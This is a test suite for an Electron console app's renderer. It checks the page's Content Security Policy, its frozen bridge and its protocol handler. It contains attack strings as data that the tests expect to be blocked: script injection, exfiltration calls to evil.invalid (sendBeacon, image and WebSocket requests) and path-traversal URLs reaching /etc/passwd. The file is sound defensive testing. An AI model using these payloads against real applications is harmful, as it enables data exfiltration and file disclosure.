import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { useConsole } from '../harness/console.ts';

/* What a script could do that got into the page: nothing beyond two functions, no code from text, no other address. */

const POLICY = [
  "default-src 'none'",
  "script-src 'self'",
  "connect-src 'self'",
  "style-src 'self' 'nonce-NONCE'",
  "img-src 'self' data: blob:",
  "font-src 'self'",
  "base-uri 'none'",
  "form-action 'none'",
  "frame-ancestors 'none'",
  "object-src 'none'",
  "require-trusted-types-for 'script'",
  'trusted-types default',
].join('; ');

/** Each tries to set `window.hit` or to reach a server; each must end in a violation report or an error. */
const ATTACKS: Readonly<Record<string, string>> = {
  'inline script element':
    "const s = document.createElement('script'); s.append('window.hit = 1'); document.body.append(s)",
  'text of a script element': "document.createElement('script').text = 'window.hit = 1'",
  'script from elsewhere':
    "const s = document.createElement('script'); s.src = 'https://evil.invalid/a.js'; document.body.append(s)",
  'script from a data address':
    "import('data:text/javascript,window.hit=1').catch((e) => { window.caught = String(e) })",
  eval: "window.hit = eval('1')",
  'function from text': "window.hit = new Function('return 1')()",
  'timer from text': "setTimeout('window.hit = 1', 0)",
  'innerHTML with markup': 'document.body.lastElementChild.innerHTML = \'<img src=x onerror="window.hit = 1">\'',
  'outerHTML with markup': "document.body.lastElementChild.outerHTML = '<b>x</b>'",
  insertAdjacentHTML: "document.body.insertAdjacentHTML('beforeend', '<i>x</i>')",
  'document.write': "document.write('<script>window.hit = 1</script>')",
  'parsed document': "new DOMParser().parseFromString('<b>x</b>', 'text/html')",
  'a second policy': "trustedTypes.createPolicy('mine', { createHTML: (s) => s })",
  'event attribute':
    "const b = document.createElement('b'); b.setAttribute('onclick', 'window.hit = 1'); document.body.append(b); b.click(); b.remove()",
  'javascript: link':
    "const a = document.createElement('a'); a.href = 'javascript:window.hit = 1'; document.body.append(a); a.click(); a.remove()",
  'style without nonce':
    "const s = document.createElement('style'); s.textContent = 'body { outline: 7px solid red }'; document.head.append(s); if (getComputedStyle(document.body).outlineWidth === '7px') window.hit = 1",
  'style from elsewhere':
    "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'https://evil.invalid/a.css'; document.head.append(l)",
  'picture from elsewhere': "new Image().src = 'https://evil.invalid/a.png?secret'",
  'fetch over https':
    "fetch('https://evil.invalid/').then(() => { window.hit = 1 }, (e) => { window.caught = String(e) })",
  'fetch over http':
    "fetch('http://127.0.0.1:1/').then(() => { window.hit = 1 }, (e) => { window.caught = String(e) })",
  'fetch of a file': "fetch('file:///etc/passwd').then(() => { window.hit = 1 }, (e) => { window.caught = String(e) })",
  'fetch of another host of ours':
    "fetch('app://other/index.html').then(() => { window.hit = 1 }, (e) => { window.caught = String(e) })",
  socket: "new WebSocket('wss://evil.invalid/').onopen = () => { window.hit = 1 }",
  beacon: "navigator.sendBeacon('https://evil.invalid/', 'secret')",
  'event stream': "new EventSource('https://evil.invalid/').onopen = () => { window.hit = 1 }",
  'worker from a blob': "new Worker(URL.createObjectURL(new Blob(['1'])))",
  'frame of a page':
    "const f = document.createElement('iframe'); f.src = 'https://evil.invalid/'; document.body.append(f)",
  'frame with markup':
    "const f = document.createElement('iframe'); f.srcdoc = '<script>parent.hit = 1</script>'; document.body.append(f)",
  'object element':
    "const o = document.createElement('object'); o.data = 'https://evil.invalid/a.swf'; document.body.append(o)",
  'base element':
    "const b = document.createElement('base'); b.href = 'https://evil.invalid/'; document.head.append(b); if (document.baseURI.includes('evil')) window.hit = 1",
  'form to elsewhere':
    "const f = document.createElement('form'); f.action = 'https://evil.invalid/'; document.body.append(f); f.submit()",
};

/** Runs a script as the page itself would: what a test tool evaluates directly is exempt from the policy. */
async function runInPage(page: Page, script: string): Promise<{ hit: unknown; caught: unknown }> {
  await page.evaluate(() => {
    Object.assign(window, { hit: undefined, caught: undefined });
  });
  // A function made by the tool's own evaluation, run from a timer, where the exemption has ended.
  await page.evaluate(`new Promise((done) => {
    const attack = () => { ${script} };
    setTimeout(() => {
      try { attack(); } catch (error) { window.caught = String(error); }
      setTimeout(done, 120);
    });
  })`);
  return page.evaluate(() => {
    const { hit, caught } = window as unknown as { hit: unknown; caught: unknown };
    return { hit, caught };
  });
}

describe('the page', () => {
  const running = useConsole({ args: ['--no-demo'] });

  it('has no Node and no Electron', async () => {
    const names = [
      'require',
      'process',
      'module',
      'exports',
      'Buffer',
      'global',
      '__dirname',
      'setImmediate',
      'ipcRenderer',
      'electron',
    ];
    const types = await running().page.evaluate(
      (all) => all.map((name) => typeof (globalThis as Record<string, unknown>)[name]),
      names,
    );
    expect(types).toEqual(names.map(() => 'undefined'));
  });

  it('gets a frozen bridge of two functions, which it can neither replace nor remove', async () => {
    const found = await running().page.evaluate(() => {
      const { bridge } = window as unknown as { bridge: Record<string, unknown> };
      const attempt = (change: () => void): void => {
        try {
          change();
        } catch {
          window.name = 'refused aloud'; // strict code is told, other code is not; both must fail
        }
      };
      attempt(() => Object.assign(window, { bridge: 1 }));
      attempt(() => void Reflect.deleteProperty(window, 'bridge'));
      attempt(() => Object.assign(bridge, { request: 1, more: 1 }));
      const after = (window as unknown as { bridge: Record<string, unknown> }).bridge;
      return {
        keys: Reflect.ownKeys(after).map(String).sort(),
        types: Object.values(after).map((each) => typeof each),
        isFrozen: Object.isFrozen(after),
        isSame: after === bridge,
      };
    });
    expect(found).toEqual({
      keys: ['request', 'subscribe'],
      types: ['function', 'function'],
      isFrozen: true,
      isSame: true,
    });
  });

  it('is served with exactly this policy, and with a fresh nonce each time', async () => {
    const load = (): Promise<Record<string, string>> =>
      running().page.evaluate(async () => Object.fromEntries((await fetch('app://console/index.html')).headers));
    const [first, second] = [await load(), await load()];
    const nonceOf = (headers: Record<string, string>): string =>
      /'nonce-([^']+)'/.exec(headers['content-security-policy'] ?? '')?.[1] ?? '';
    expect(Buffer.from(nonceOf(first), 'base64')).toHaveLength(18);
    expect(nonceOf(first)).not.toBe(nonceOf(second));
    expect(first['content-security-policy']?.replace(nonceOf(first), 'NONCE')).toBe(POLICY);
    expect(first['x-content-type-options']).toBe('nosniff');
    expect(first['cache-control']).toBe('no-store');
  });

  it('was drawn without a violation, and lets plain text pass', async () => {
    expect(running().mistakes).toEqual([]);
    const answer = await runInPage(
      running().page,
      "const d = document.createElement('div'); d.innerHTML = 'plain'; window.hit = d.textContent",
    );
    expect(answer).toEqual({ hit: 'plain', caught: undefined });
  });

  it.each(Object.entries(ATTACKS))('refuses: %s', async (_what, script) => {
    const { page, mistakes } = running();
    const before = mistakes.length;
    const { hit, caught } = await runInPage(page, script);
    expect(hit).toBeUndefined();
    const reported = mistakes.slice(before);
    // Some are refused aloud to the script, others are only reported; neither means that it got through.
    expect(`${String(caught)} ${reported.map(({ text }) => text).join(' ')}`).toMatch(
      /not allowed here|Failed to fetch|Refused to /,
    );
    expect(page.url()).toBe('app://console/index.html');
  });
});

describe('the page protocol', () => {
  const running = useConsole({ args: ['--no-demo'] });
  const fetchAsMain = (url: string): Promise<number | string> =>
    running().app.evaluate(async ({ BrowserWindow }, address) => {
      const [window] = BrowserWindow.getAllWindows();
      if (window === undefined) throw new Error('no window');
      return window.webContents.session.fetch(address).then(
        ({ status }) => status,
        (error: unknown) => String(error),
      );
    }, url);

  it('serves the page and its files', async () => {
    expect(await fetchAsMain('app://console/index.html')).toBe(200);
    const assets = await running().page.evaluate(() => [...document.scripts].map(({ src }) => src));
    expect(assets.length).toBeGreaterThan(0);
    for (const asset of assets) expect(await fetchAsMain(asset)).toBe(200);
  });

  it.each([
    'app://console/..%2fmain%2fmain.cjs',
    'app://console/..%2F..%2Fpackage.json',
    'app://console/%2e%2e/%2e%2e/package.json',
    'app://console/..%5cmain%5cmain.cjs',
    'app://console/../main/main.cjs',
    'app://console//etc/passwd',
    'app://console/etc/passwd',
    'app://console/%2fetc%2fpasswd',
    'app://console/assets',
    'app://console/%E0%A4%A',
  ])('answers 404 to %s', async (url) => {
    const seen = await running().page.evaluate((address) => fetch(address).then(({ status }) => status), url);
    expect(seen).toBe(404);
  });

  it.each([
    'app://other/index.html',
    'app://console.evil.invalid/index.html',
    'file:///etc/passwd',
    'https://evil.invalid/',
    'http://127.0.0.1:1/',
  ])('lets no window of its session show %s', async (url) => {
    const { app, log } = running();
    const answer = await app.evaluate(async ({ BrowserWindow }, address) => {
      const [window] = BrowserWindow.getAllWindows();
      if (window === undefined) throw new Error('no window');
      const other = new BrowserWindow({ show: false, webPreferences: { session: window.webContents.session } });
      const shown = await other.loadURL(address).then(() => 'shown', String);
      other.destroy();
      return shown;
    }, url);
    expect(answer).toContain('ERR_BLOCKED_BY_CLIENT');
    expect(log()).toContain(`refused: request ${url}`);
  });
});
